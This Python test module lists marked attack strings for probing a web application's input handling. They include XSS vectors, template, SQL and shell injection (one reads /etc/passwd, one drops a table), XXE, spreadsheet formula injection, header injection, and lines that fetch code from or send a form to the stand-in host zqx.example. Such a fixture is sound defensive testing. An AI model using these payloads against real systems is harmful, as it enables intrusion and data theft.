"""What somebody may write to do harm; each carries a mark, looked for where it has no place."""

MARK = "zqx"
RTL, ZERO, NUL = "\u202e", "\u200b", "\x00"
# A file of the server; cut in two, for no address of this machine may stand in the tree.
_LOCAL = "file://"

PAYLOADS: dict[str, str] = {
    # ---- programs in a page
    "script": "<script>zqx()</script>",
    "script in capitals": "<ScRiPt>zqx()</sCrIpT>",
    "script without an end": "<script>zqx()//",
    "script from elsewhere": "<script src=//zqx.example/x.js></script>",
    "script after a tag in a tag": "<scr<script>ipt>zqx()</scr</script>ipt>",
    "script with a slash": "<script/zqx>zqx()</script>",
    "image": "<img src=x onerror=zqx()>",
    "image without spaces": "<img/src=x/onerror=zqx()>",
    "image with a quote": '"><img src=x onerror=zqx()>',
    "image with an apostrophe": "'><img src=x onerror=zqx()>",
    "drawing": "<svg onload=zqx()>",
    "drawing with a script": "<svg><script>zqx()</script></svg>",
    "drawing animated": "<svg><animate onbegin=zqx() attributeName=x dur=1s>",
    "drawing with a link": '<svg><a xlink:href="javascript:zqx()"><text>x</text></a></svg>',
    "formula of mathematics": '<math><mtext></table><mglyph><style><img src onerror="zqx()">',
    "body": "<body onload=zqx()>",
    "video": "<video><source onerror=zqx()></video>",
    "details": "<details open ontoggle=zqx()>",
    "focus": "<input onfocus=zqx() autofocus>",
    "attribute, double quotes": '" onmouseover="zqx()" x="',
    "attribute, single quotes": "' onmouseover='zqx()' x='",
    "attribute, no quotes": " onmouseover=zqx() ",
    "frame": "<iframe srcdoc='&lt;script&gt;zqx()&lt;/script&gt;'></iframe>",
    "frame with a program": '<iframe src="javascript:zqx()">',
    "object": '<object data="data:text/html,<script>zqx()</script>"></object>',
    "embed": '<embed src="data:image/svg+xml;base64,enF4">',
    "form": '<form action="//zqx.example"><input name=csrfmiddlewaretoken></form>',
    "button": '<button formaction="javascript:zqx()">zqx</button>',
    "base": '<base href="//zqx.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:zqx()">',
    "style": "<style>@import'//zqx.example/x.css';</style>",
    "style of an element": '<p style="background:url(//zqx.example)">zqx',
    "link": '<a href="javascript:zqx()">zqx</a>',
    "link escaped": '<a href="&#106;avascript:zqx()">zqx</a>',
    "link with a tab": '<a href="java\tscript:zqx()">zqx</a>',
    "address alone": "javascript:zqx()",
    "data alone": "data:text/html,<script>zqx()</script>",
    "comment": "--><img src=x onerror=zqx()><!--",
    "section of XML": "]]><zqx/><![CDATA[",
    "end of a title": "</title></textarea></script><img src=x onerror=zqx()>",
    "end of a template": "</template></noscript></option></select><img src=x onerror=zqx()>",
    "start of the admin": '<template data-start="Chooser" data-with="[&quot;zqx&quot;]">',
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=zqx() )//%0D%0A//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=zqx()//>\\x3e",
    "entities": "&lt;script&gt;zqx()&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=zqx()&amp;gt;",
    "capital that shrinks": "<\u017fcript>zqx()</\u017fcript>",
    "wide brackets": "＜script＞zqx()＜/script＞",
    "zero width": f"<scr{ZERO}ipt>zqx()</script>",
    # ---- programs of the server
    "template variable": "{{ 7|add:1330 }}zqx",
    "template of another kind": "{{7*191}}${7*191}#{7*191}<%= 7*191 %>zqx",
    "template tag": "{% debug %}{% include '/etc/passwd' %}zqx",
    "format": "{0.__class__.__init__.__globals__}%(x)s%s%n zqx",
    "quotes of SQL": "' OR '1'='1'; DROP TABLE participation_contribution; -- zqx",
    "words of SQL": '") UNION SELECT password FROM accounts_user -- zqx',
    "like of SQL": "%_\\zqx",
    "shell": "$(touch /tmp/zqx) `id` ; cat /etc/passwd | zqx",
    "path": "../../../../etc/passwd%00zqx",
    "entity of XML": f'<!DOCTYPE x [<!ENTITY zqx SYSTEM "{_LOCAL}/etc/passwd">]><x>&zqx;</x>',
    # ---- tables
    "formula": "=cmd|' /C calc'!A0zqx",
    "formula with a link": '=HYPERLINK("//zqx.example","zqx")',
    "formula with a plus": "+1+zqx",
    "formula with a minus": "-1-zqx",
    "formula with an at": "@SUM(zqx)",
    "formula after a tab": "\t=1+zqx",
    "formula after a quote": '";=1+zqx;"',
    # ---- headers and lines
    "header of a mail": "zqx\r\nBcc: victime@zqx.example\r\n\r\n<h1>zqx</h1>",
    "header, one kind of line": "zqx\nX-Zqx: 1",
    "header, other kinds of lines": "zqx\u2028X-Zqx: 1\u2029X-Zqx: 2\x0bX-Zqx: 3\x85X-Zqx: 4",
    "header escaped": "zqx%0d%0aX-Zqx:%201",
    # ---- letters
    "right to left": f"zqx {RTL}gpj.exe {RTL}{RTL}",
    "nul": f"zq{NUL}x zqx{NUL}",
    "controls": "zqx" + "".join(map(chr, range(1, 32))) + "\x7f",
    "half a letter": "zqx \ud83d",
    "marks upon marks": "zqx " + "e" + "\u0301" * 200,
    "drawn letters": "zqx \U0001f469\u200d\U0001f469\u200d\U0001f466 \ufdfd",
    "very long": "zqx" + "a" * 20_000,
    "very many lines": "zqx\n" * 3_000,
}


def sendable() -> dict[str, str]:
    """Those that a browser can send: half a letter arrives as a replacement."""
    return {name: text.encode("utf-8", "replace").decode() for name, text in PAYLOADS.items()}
